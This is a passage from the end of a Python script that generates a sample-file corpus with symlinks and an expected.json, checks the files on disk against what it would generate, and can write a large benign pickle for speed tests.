        (json.dumps({k: c.expect[k] for k in sorted(c.expect)}, indent=2) + "\n").encode())
    (root / "README.md").write_bytes(readme(c))


def check(c: Corpus, root: Path) -> list[str]:
    """Differences between what the generator builds and what is on disk (empty: identical)."""
    want: dict[str, tuple[str, bytes]] = {rel: ("file", data) for rel, data in c.files.items()}
    want.update({rel: ("link", target.encode()) for rel, target in c.links.items()})
    want["expected.json"] = ("file", (json.dumps({k: c.expect[k] for k in sorted(c.expect)}, indent=2) + "\n").encode())
    want["README.md"] = ("file", readme(c))
    have: dict[str, tuple[str, bytes]] = {}
    for d in OUTPUT_DIRS:
        base = root / d
        for p in sorted(base.rglob("*")) if base.exists() else []:
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                have[rel] = ("link", os.readlink(p).encode())
            elif p.is_file():
                have[rel] = ("file", p.read_bytes())
    for extra in ("expected.json", "README.md"):
        p = root / extra
        if p.is_file():
            have[extra] = ("file", p.read_bytes())
    problems = [f"missing: {r}" for r in sorted(set(want) - set(have))]
    problems += [f"not generated: {r}" for r in sorted(set(have) - set(want))]
    problems += [f"differs: {r}" for r in sorted(set(want) & set(have)) if want[r] != have[r]]
    return problems


def write_big_opcodes(path: Path) -> None:
    """A benign, opcode-heavy protocol-4 pickle (1M small tuples, ~20 MB) for speed and memory
    tests. Pickling plain data runs no user code."""
    data = [(i, i * 0.5) for i in range(1_000_000)]
    path.write_bytes(pickle.dumps(data, 4))


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--big-opcodes", type=Path, metavar="PATH",
                    help="also write the ~20 MB benign big_opcodes pickle to PATH (outside samples/)")
    ap.add_argument("--check", action="store_true",
                    help="write nothing; fail if the files on disk differ from what would be generated")
    args = ap.parse_args()
    c = build()
    if args.check:
        problems = check(c, ROOT)
        for p in problems:
            print(p, file=sys.stderr)
        if problems:
            print("samples/ is out of date: run python3 samples/generate.py", file=sys.stderr)
            return 1
        print(f"samples/ matches the generator ({len(c.files)} files, {len(c.links)} links)", file=sys.stderr)
        return 0
    write(c, ROOT)
    if args.big_opcodes:
        if ROOT in args.big_opcodes.resolve().parents:
            ap.error("--big-opcodes must point outside samples/ (the file is not committed)")
        write_big_opcodes(args.big_opcodes)
    total = sum(len(d) for d in c.files.values())
    print(f"wrote {len(c.files)} files, {len(c.links)} symlinks, {len(c.expect)} expectations, {total} bytes",
          file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
